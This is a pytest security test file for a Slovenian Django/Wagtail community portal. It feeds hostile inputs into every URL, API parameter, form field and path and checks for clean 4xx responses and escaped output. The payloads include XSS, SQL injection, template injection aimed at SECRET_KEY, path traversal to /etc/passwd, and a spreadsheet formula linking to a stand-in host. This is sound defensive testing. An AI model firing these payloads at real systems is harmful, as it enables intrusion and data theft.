"""Whatever a visitor sends, the public site answers with a 4xx or a clean page: never a
500, never their input back unescaped, and nothing saved."""

import pytest
from django.test import Client, override_settings
from django.urls import reverse
from wagtail.models import Page, PageViewRestriction, Revision

from portal.api.router import ENDPOINTS
from portal.base.models import ContentPage
from portal.stakeholders.models import Stakeholder
from programmes.models import Programme
from tests import builders
from tests.programme_helpers import programme

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE wagtailcore_page; --",
    "%00",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",  # right-to-left override
    "Stražišče 👩‍👩‍👧 ﷽",
    "e\u0301\u0301\u0301\u0301",  # stacked combining accents
    "\ufeff\u200b",
    "x" * 10_000,
    "-1",
    "0",
    "99999999999999999999999",
    "1e9",
    "${{7*7}}{% debug %}{{ settings.SECRET_KEY }}",
    "../../../../etc/passwd",
    '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")',  # a formula for a spreadsheet
    "KS\u200bGolnik",  # a zero-width space inside a name
]


@pytest.fixture
def site():
    golnik = builders.section("Golnik")
    builders.section("Stražišče")
    programme("Popravljalnica na Golniku", "repair_cafe", community=golnik)
    # A prize draw, and its results public while it is open: the results page renders.
    builders.consultation(
        golnik,
        "Posvet o potrebah",
        slug="posvet",
        draw_prize="Kolo",
        results_public_while_open=True,
    )
    return golnik


def public_urls(golnik):
    space = golnik.get_children().type(builders.SpacePage).first().specific
    event = golnik.get_descendants().type(builders.EventPage).first().specific
    news = golnik.get_descendants().type(builders.NewsPage).first().specific
    return [
        "/",
        golnik.url,
        space.url,
        space.url + "zasedenost/",
        space.url + "rezervacija/",
        space.url + "rezervacija/poslano/",
        space.url + "rezervacija/preklic/",
        "/golnik/dogodki/",
        event.url,
        "/golnik/novice/",
        "/golnik/posvet/",
        "/golnik/posvet/hvala/",
        "/golnik/posvet/potrditev/",
        "/golnik/posvet/rezultati/",
        *NEWS_FEEDS,
        news.url,
        "/iskanje/",
        "/sitemap.xml",
        "/robots.txt",
        *PROGRAMME_LISTINGS,
        "/golnik/programi/popravljalnica-na-golniku/",
        *calendar_feeds(golnik, space, event),
        *API_LISTINGS,
        f"/api/v2/spaces/{space.pk}/",
        f"/api/v2/pages/{event.pk}/",
        "/api/openapi.json",
        "/api/",
        "/api/vticnik/",
        "/embed/events.js",
    ]


API_LISTINGS = [f"/api/v2/{name}/" for name in ENDPOINTS]


def test_every_parameter_of_every_api_endpoint(client, site, subtests):
    before = saved_state()
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for name, endpoint in ENDPOINTS.items():
                url = f"/api/v2/{name}/"
                names = list(endpoint.listing_parameters())
                for parameter in names:
                    response = client.get(url, {parameter: payload})
                    assert response.status_code in (200, 400), (url, parameter)
                    assert response["Content-Type"] == "application/json"
                everything = client.get(url, dict.fromkeys(names, payload))
                assert everything.status_code in (200, 400)
    assert saved_state() == before


def calendar_feeds(golnik, space, event):
    cafe = Programme.objects.get(slug="popravljalnica-na-golniku")
    return [
        "/koledar/vsi-dogodki.ics",
        f"/koledar/ks/{golnik.slug}.ics",
        f"/koledar/program/{cafe.pk}.ics",
        f"/koledar/prostor/{space.pk}.ics",
        f"/koledar/dogodek/{event.pk}.ics",
    ]


PROGRAMME_LISTINGS = ["/golnik/programi/", "/programi/"]
NEWS_FEEDS = ["/golnik/novice/rss/", "/golnik/novice/atom/"]
NEWS_FILTERS = ("theme", "tag", "year", "page")
PROGRAMME_FILTERS = ("q", "theme", "audience", "type", "community", "page")
# The month grid answers for this month on (its range begins with the first event).
THIS_MONTH = f"mesec/{builders.today().year}/{builders.today().month}/"
CALENDAR_VIEWS = [
    "/golnik/dogodki/",
    "/golnik/dogodki/preteklo/",
    f"/golnik/dogodki/{THIS_MONTH}",
    "/dogodki/",
    f"/dogodki/{THIS_MONTH}",
]
CALENDAR_FILTERS = (
    "q",
    "community",
    "theme",
    "audience",
    "programme",
    "space",
    "free",
    "from",
    "to",
    "when",
    "page",
)


def saved_state():
    return (
        Page.objects.count(),
        Revision.objects.count(),
        Stakeholder.objects.count(),
        Programme.objects.count(),
    )


def assert_clean(response, payload):
    assert response.status_code < 500
    if response.status_code == 200 and ("<" in payload or '"' in payload):
        assert payload not in response.content.decode("utf-8", "replace")


# Each test builds its site once and sends every payload (a subtest each): a site per
# payload would cost more than all the requests.


def test_every_query_parameter_of_every_public_url(client, site, subtests):
    before = saved_state()
    urls = public_urls(site)
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for url in urls:
                for parameter in ("q", "page", "filter"):
                    assert_clean(client.get(url, {parameter: payload}), payload)
    assert saved_state() == before


def test_odd_parameter_names_with_the_page_cache_on(client, site, subtests, settings):
    """Unknown parameters are left out of the page cache's key: whatever their names,
    a page kept for one address never shows another visitor's parameters."""
    from urllib.parse import urlencode

    settings.PAGE_CACHE_SECONDS = 300
    urls = public_urls(site)
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for url in urls:
                query = urlencode({payload: payload, "page": "2", f"q{payload}": "1"})
                assert_clean(client.get(f"{url}?{query}"), payload)
                assert_clean(client.get(url), payload)


def test_every_filter_of_the_programme_listings(client, site, subtests):
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for url in PROGRAMME_LISTINGS:
                for parameter in PROGRAMME_FILTERS:
                    assert_clean(client.get(url, {parameter: payload}), payload)
                everything = dict.fromkeys(PROGRAMME_FILTERS, payload)
                assert_clean(client.get(url, everything), payload)


def test_every_filter_of_the_calendar_views(client, site, subtests):
    builders.calendar(builders.home_page(), "Dogodki v vseh KS")
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for url in CALENDAR_VIEWS:
                for parameter in CALENDAR_FILTERS:
                    assert_clean(client.get(url, {parameter: payload}), payload)
                everything = dict.fromkeys(CALENDAR_FILTERS, payload)
                assert_clean(client.get(url, everything), payload)


def test_every_filter_of_the_news_listing(client, site, subtests):
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for parameter in NEWS_FILTERS:
                assert_clean(client.get("/golnik/novice/", {parameter: payload}), payload)
            everything = dict.fromkeys(NEWS_FILTERS, payload)
            response = client.get("/golnik/novice/", everything)
            assert response.status_code == 400
            assert_clean(response, payload)


def test_the_week_parameter_of_a_space_availability_view(client, site, subtests):
    space = site.get_children().type(builders.SpacePage).first().specific
    url = space.url + "zasedenost/"
    before = saved_state()
    for number, payload in enumerate([*PAYLOADS, "2026-W99", "2026-W00", "0000-01-01", "2026-W5x"]):
        with subtests.test(payload=number):
            response = client.get(url, {"teden": payload})
            assert response.status_code in (200, 400)
            assert_clean(response, payload)
            if response.status_code == 400:
                assert "notice--error" in response.content.decode()
    assert saved_state() == before


BOOKING_REQUEST = {
    "name": "Ana Novak",
    "email": "ana@example.org",
    "phone": "041 123 456",
    "organisation": "",
    "purpose": "Vaja zbora",
    "description": "",
    "visibility": "public",
    "attendance": "20",
    "date": "1. 12. 2030",
    "start": "17.00",
    "end": "19.00",
    "weekly": "",
    "until": "",
    "consent": "on",
}


def test_every_field_of_the_booking_form(client, site, subtests):
    """The form answers every payload in every field with its errors (the space has no
    opening hours, so nothing can be booked), escaped: never a 500."""
    from portal.bookings.models import BookingRequest

    space = site.get_children().type(builders.SpacePage).first().specific
    url = space.url + "rezervacija/"
    before = saved_state()
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for field in [*BOOKING_REQUEST, "website", "room"]:
                response = client.post(url, {**BOOKING_REQUEST, field: payload})
                assert response.status_code in (302, 400), (field, response.status_code)
                if "<" in payload or '"' in payload:
                    assert payload not in response.content.decode("utf-8", "replace")
            everything = client.post(url, dict.fromkeys(BOOKING_REQUEST, payload))
            assert everything.status_code == 400
            assert_clean(everything, payload)
            cancel = client.post(space.url + "rezervacija/preklic/", {"kljuc": payload})
            assert cancel.status_code == 404
            assert (
                client.get(space.url + "rezervacija/preklic/", {"kljuc": payload}).status_code
                == 404
            )
    assert saved_state() == before
    assert not BookingRequest.objects.exists()


def signup_request(event):
    text, yes_no = (block.id for block in event.signup_questions)
    return {
        "name": "Ana Novak",
        "email": "ana@example.org",
        "phone": "041 123 456",
        "places": "1",
        f"q_{text}": "Toaster",
        f"q_{yes_no}": "yes",
        "consent": "on",
    }


@override_settings(SIGNUPS_PER_HOUR=1_000_000)
def test_every_field_of_the_signup_form(client, site, subtests):
    """The sign-up form answers every payload in every field with its errors or takes the
    sign-up (a name may be odd), escaped: never a 500; its pages and cancel link too."""
    cal = site.get_descendants().type(builders.EventCalendarPage).first().specific
    event = builders.signup_event(
        cal,
        "Delavnica s prijavo",
        capacity=2,
        signup_questions=[
            ("short_text", {"question": "Kaj prinesete?", "required": True}),
            ("yes_no", {"question": "Parkirišče?", "required": True}),
        ],
    )
    request = signup_request(event)
    url = event.url + "prijava/"
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for field in [*request, "website"]:
                response = client.post(url, {**request, field: payload})
                assert response.status_code in (303, 400), (field, response.status_code)
                if "<" in payload or '"' in payload:
                    assert payload not in response.content.decode("utf-8", "replace")
            everything = client.post(url, dict.fromkeys(request, payload))
            assert everything.status_code == 400
            assert_clean(everything, payload)
            for query in ({"termin": payload}, {"prijava": payload}):
                assert client.get(url, query).status_code in (200, 404)
                assert_clean(client.get(event.url + "prijava/poslano/", query), payload)
            for method in (client.get, client.post):
                cancel = method(event.url + "prijava/preklic/", {"kljuc": payload})
                assert cancel.status_code == 404


CONSULTATION_ANSWER = {
    "q-vrt": "Da",
    "q-kdaj": "Popoldne",
    "q-energija": "3",
    "q-potrebe": "Klopi.",
    "q-ponudba-kinds": "time",
    "q-ponudba-text": "Pomagam.",
    "q-ponudba-name": "Ana Novak",
    "q-ponudba-email": "ana@example.org",
    "q-ponudba-phone": "041 123 456",
    "q-ponudba-consent": "on",
    "confirm_email": "",
    "draw_entry": "on",
    "draw_email": "ana@example.org",
}


@override_settings(CONSULTATION_ANSWERS_PER_HOUR=100_000)
def test_every_field_of_the_consultation_form(client, site, subtests):
    """Every payload in every field of the answer form: a clean 400 with the errors, or
    a saved answer (a text may say anything), never a 500 nor the payload back unescaped."""
    from portal.consultations.models import Offer, Response

    url = "/golnik/posvet/"
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for field in [*CONSULTATION_ANSWER, "website"]:
                response = client.post(url, {**CONSULTATION_ANSWER, field: payload})
                assert response.status_code in (302, 400), (field, response.status_code)
                if "<" in payload or '"' in payload:
                    assert payload not in response.content.decode("utf-8", "replace")
            everything = client.post(url, dict.fromkeys(CONSULTATION_ANSWER, payload))
            assert everything.status_code == 400
            assert_clean(everything, payload)
    # Long texts are refused, never cut and stored.
    assert all(len(offer.description) <= 3000 for offer in Offer.objects.all())
    assert not Response.objects.filter(answers__text__contains="x" * 3001).exists()


def test_search_shows_what_was_asked_escaped(client, site, subtests):
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            response = client.get("/iskanje/", {"q": payload, "page": payload})
            assert response.status_code == 200
            assert_clean(response, payload)


ODD_PATHS = [
    "/<script>alert(1)</script>/",
    "/golnik/%00/",
    "/golnik/..%2f..%2fetc%2fpasswd",
    "/" + "a" * 3000 + "/",
    "/%ED%A0%80/",  # a lone surrogate, invalid UTF-8
    "/dokumenti/99999/ni.pdf",
    "/golnik/dogodki/ni-takega-dogodka/",
    "/golnik/dogodki/mesec/2026/13/",
    "/golnik/dogodki/mesec/99999999999999999999/1/",
    "/golnik/dogodki/mesec/<script>alert(1)</script>/1/",
    "/golnik/dogodki/mesec/2026/",
    "/golnik/programi/ni-takega-programa/",
    "/golnik/skupnostni-prostor-golnik/zasedenost/nekaj/",
    "/golnik/skupnostni-prostor-golnik/<script>alert(1)</script>/",
    "/golnik/programi/<script>alert(1)</script>/",
    "/programi/popravljalnica-na-golniku/",
    "/golnik/novice/ni-take-novice/",
    "/golnik/novice/rss/<script>alert(1)</script>/",
    "/koledar/ks/<script>alert(1)</script>.ics",
    "/koledar/ks/%00.ics",
    "/koledar/ks/..%2f..%2fetc%2fpasswd.ics",
    "/koledar/ks/" + "a" * 3000 + ".ics",
    "/koledar/ks/golnik.ics/",
    "/koledar/ks/%ED%A0%80.ics",
    "/koledar/dogodek/-1.ics",
    "/koledar/dogodek/0.ics",
    "/koledar/dogodek/99999999999999999999999.ics",
    "/koledar/dogodek/1e9.ics",
    "/koledar/prostor/999999999.ics",
    "/koledar/program/%20.ics",
    "/koledar/program/popravljalnica-na-golniku.ics",
    "/api/v2/<script>alert(1)</script>/",
    "/api/v2/events/%00/",
    "/api/v2/spaces/-1/",
    "/api/v2/spaces/0/",
    "/api/v2/spaces/99999999999999999999999/",
    "/api/v2/spaces/1e9/",
    "/api/v2/programmes/..%2f..%2fetc%2fpasswd/",
    "/api/v2/news/" + "9" * 3000 + "/",
    "/media/",
    "/media/../manage.py",
    "/media/images/%2e%2e/%2e%2e/manage.py",
    "/media/images/..%2f..%2fmanage.py",
    "/media/original_images/<script>alert(1)</script>.jpg",
    "/media/original_images/%00.jpg",
    "/media/original_images/%ED%A0%80.jpg",
    "/media/images/" + "a" * 3000 + ".jpg",
    "/media/documents/",
    "/media/wagtail_uploads/",
]


def test_odd_paths_get_a_clean_not_found(client, site, subtests):
    for path in ODD_PATHS:
        with subtests.test(path=path[:80]):
            response = client.get(path)
            assert response.status_code in (400, 404)
            assert "<script>alert(1)</script>" not in response.content.decode("utf-8", "replace")


WRITABLE_LOOKING_URLS = [
    "/",
    "/golnik/",
    "/golnik/skupnostni-prostor-golnik/",
    "/golnik/skupnostni-prostor-golnik/zasedenost/",
    "/golnik/skupnostni-prostor-golnik/rezervacija/",
    "/iskanje/",
    "/golnik/dogodki/",
    "/golnik/programi/",
    "/golnik/programi/popravljalnica-na-golniku/",
    "/golnik/novice/",
    "/golnik/novice/rss/",
    "/golnik/posvet/rezultati/",
    "/koledar/vsi-dogodki.ics",
    "/koledar/ks/golnik.ics",
    "/api/v2/events/",
    "/api/v2/programmes/",
    "/api/openapi.json",
    "/media/images/slika.jpg",
]


def test_writing_methods_are_refused_on_public_pages(site, subtests):
    before = saved_state()
    client = Client(enforce_csrf_checks=True)
    for url in WRITABLE_LOOKING_URLS:
        for method in ("post", "put", "patch", "delete"):
            with subtests.test(url=url, method=method):
                response = getattr(client, method)(url, {"title": "x"})
                assert 400 <= response.status_code < 500
    assert saved_state() == before


def test_a_foreign_host_header_is_refused(client, site):
    response = client.get("/", HTTP_HOST="evil.example.com")
    assert response.status_code == 400


def test_refusals_are_explained_in_slovenian(site):
    csrf = Client(enforce_csrf_checks=True).post("/iskanje/", {"q": "x"})
    assert csrf.status_code == 403
    assert "Obrazec je potekel" in csrf.content.decode()
    bad_host = Client().get("/", HTTP_HOST="evil.example.com")
    assert "Portal te zahteve ne razume" in bad_host.content.decode()


REPORT_PARAMETERS = ("start", "end", "community", "space", "p", "export")


def test_every_parameter_of_the_utilisation_report(client, site, subtests):
    """The admin's utilisation report, as a municipal editor: bad months, huge spans,
    foreign or non-numeric ids and markup get a 400 with the reason, never a 500."""
    from django.contrib.auth import get_user_model
    from django.urls import reverse

    from portal.communities.provisioning import ensure_municipal_editors

    editor = get_user_model().objects.create_user("obcina", password="x")
    editor.groups.add(ensure_municipal_editors())
    client.force_login(editor)
    url = reverse("space_utilisation_report")
    before = saved_state()
    odd = ["2026-13", "0000-01", "9999-12", "1. 2026.", "2026-W05", "-2026-01", "1000000"]
    for number, payload in enumerate([*PAYLOADS, *odd]):
        with subtests.test(payload=number):
            for parameter in REPORT_PARAMETERS:
                response = client.get(url, {parameter: payload})
                assert response.status_code in (200, 400), (parameter, response.status_code)
                assert_clean(response, payload)
                if response.status_code == 400:
                    assert "help-critical" in response.content.decode()
            everything = client.get(url, dict.fromkeys(REPORT_PARAMETERS, payload))
            assert everything.status_code in (200, 400)
            assert_clean(everything, payload)
    span = client.get(url, {"start": "2000-01", "end": "2099-12", "export": "xlsx"})
    assert span.status_code == 400
    assert "Izberete lahko največ 24 mesecev hkrati." in span.content.decode()
    assert saved_state() == before


@override_settings(PROXY_COUNT=1, AXES_ENABLED=True)
def test_every_forwarded_address_and_every_field_of_the_password_forms(client, site, subtests):
    """Whatever X-Forwarded-For carries, the client's address is read or the proxy's taken:
    the login lockout stores it (an `inet` column on PostgreSQL) and the limits count it.
    The page-password and password-reset forms answer every payload cleanly."""
    minutes = builders.publish(site, ContentPage(title="Zapisniki sveta KS"))
    lock = PageViewRestriction.objects.create(
        page=minutes, restriction_type="password", password="pravo-geslo"
    )
    password_url = f"/_util/authenticate_with_password/{lock.pk}/{minutes.pk}/"
    space = site.get_children().type(builders.SpacePage).first().specific
    odd_addresses = ["fe80::1%eth0", "[2001:db8::1]:443", "::ffff:198.51.100.7", "1.2.3.4:0"]
    for number, payload in enumerate([*PAYLOADS, *odd_addresses]):
        with subtests.test(payload=number):
            proxied = {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_FORWARDED_FOR": payload}
            login = client.post(
                reverse("wagtailadmin_login"), {"username": payload, "password": "x"}, **proxied
            )
            assert login.status_code in (200, 429)
            for data in ({"password": payload, "return_url": "/"}, {"return_url": payload}):
                response = client.post(password_url, data, **proxied)
                assert response.status_code in (200, 429)
                assert_clean(response, payload)
            reset = client.post("/admin/password_reset/", {"email": payload}, **proxied)
            assert reset.status_code in (200, 429)
            assert_clean(reset, payload)
            booking = client.post(space.url + "rezervacija/", BOOKING_REQUEST, **proxied)
            assert booking.status_code == 400


# What the block editor of a programme type with every kind of block posts when left
# empty (tests/programme_test_app/block_types.py).
MARKET_FIELDS = {
    "first_day": "",
    "opens_at": "",
    "applications_close": "",
    "stall_fee": "",
    "stalls": "",
    "area": "",
    "kind": "",
    "website": "",
    "email": "",
    "venue_page": "",
    "poster": "",
    "rules": "",
    "notes": "null",
    "directions": "",
    "products-count": "1",
    "products-0-value": "",
    "products-0-deleted": "",
    "products-0-order": "0",
    "products-0-id": "",
    "manager-name": "",
    "manager-phone": "",
}
MARKET_TEXT = ("directions", "products-0-value", "manager-name")


def test_every_field_of_a_programme_types_block_editor(admin_client, client, market, subtests):
    """An editor's every payload in every field of a type's own fields: the form answers
    with its errors, or saves text as text, which the public page and the API escape."""
    from programmes.testing import browser_form_data

    url = reverse_add_market()
    form = dict(browser_form_data(admin_client.get(url).content.decode()).lists())
    form.update(title="Sosedska tržnica", summary="Vsako soboto.", **{"action-publish": "1"})
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            fields = {f"details-{name}": payload for name in MARKET_FIELDS}
            response = admin_client.post(url, {**form, **fields, "details-products-count": "1"})
            assert response.status_code == 200
            assert_clean(response, payload)
            texts = {f"details-{name}": payload for name in MARKET_TEXT}
            fields = {f"details-{name}": value for name, value in MARKET_FIELDS.items()}
            response = admin_client.post(url, {**form, **fields, **texts})
            assert response.status_code in (200, 302)
            assert_clean(response, payload)
    saved_ones = Programme.objects.filter(live=True)
    assert saved_ones.count() > len(PAYLOADS) / 2  # most payloads are text to keep
    for saved in saved_ones:
        assert_clean(client.get(saved.get_url()), saved.details["directions"])
        assert client.get(f"/api/v2/programmes/{saved.pk}/").status_code == 200


def reverse_add_market():
    from django.urls import reverse

    return reverse("wagtailsnippets_programmes_programme:add") + "?type=market"


WORKSHOP_NOTE = {
    "workshop_date": "7. 11. 2017",
    "table": "Miza 1",
    "round": "1",
    "theme": "food",
    "note_type": "offer",
    "text": "Semena iz domačega vrta",
    "people_count": "3",
    "contact_name": "Ana Novak",
    "contact": "ana@example.org",
    "consent_to_contact": "on",
}


@override_settings(CONSULTATION_ANSWERS_PER_HOUR=100_000)
def test_every_field_of_the_consultation_admin_forms(client, site, subtests):
    """As Golnik's editor, the admin forms of a consultation: the workshop notes,
    approving answers, the prize draw and an offer made a draft programme. Every payload
    in every field gets a 4xx with the reason or a clean page, never a 500."""
    from django.utils import timezone

    from portal.consultations.models import Answer, ConsultationPage, Draw, Offer

    page = ConsultationPage.objects.get(slug="posvet")
    client.post(page.url, CONSULTATION_ANSWER)  # an answer with an offer to act on
    offer = Offer.objects.get()
    answer = Answer.objects.exclude(text="").first()
    ConsultationPage.objects.filter(pk=page.pk).update(closes_at=timezone.now())
    client.force_login(builders.ks_editor(site))
    workshop = reverse("consultation_workshop_entry", args=[page.pk])
    answers = reverse("consultation_answers", args=[page.pk])
    draw = reverse("consultation_draw", args=[page.pk])
    programme = reverse("wagtailsnippets_consultations_offer:make_programme", args=[offer.pk])
    for number, payload in enumerate(PAYLOADS):
        with subtests.test(payload=number):
            for field in WORKSHOP_NOTE:
                response = client.post(workshop, {**WORKSHOP_NOTE, field: payload})
                assert response.status_code in (200, 302, 400), (field, response.status_code)
                assert_clean(response, payload)
            for data in (
                {"action": payload, "answer": answer.pk},
                {"action": "publish", "answer": payload},
                {"action": "hide", "answer": [answer.pk, payload]},
            ):
                response = client.post(answers, data)
                # An id of no answer ("0") changes nothing and says so.
                assert response.status_code in (302, 400), (data, response.status_code)
                assert_clean(response, payload)
            listing = client.get(answers, {"prikaz": payload})
            assert listing.status_code in (200, 400)
            assert_clean(listing, payload)
            for data in (
                {"winners_count": payload, "seed": "seme"},
                {"winners_count": "1", "seed": payload},
            ):
                response = client.post(draw, data)
                assert response.status_code in (302, 400, 409), (data, response.status_code)
                assert_clean(response, payload)
            response = client.post(programme, {"programme_type": payload})
            assert response.status_code == 403
            assert_clean(response, payload)
    # One draw at most, whatever was sent; the offer became nothing.
    assert Draw.objects.filter(consultation=page).count() <= 1
    offer.refresh_from_db()
    assert offer.programme_id is None
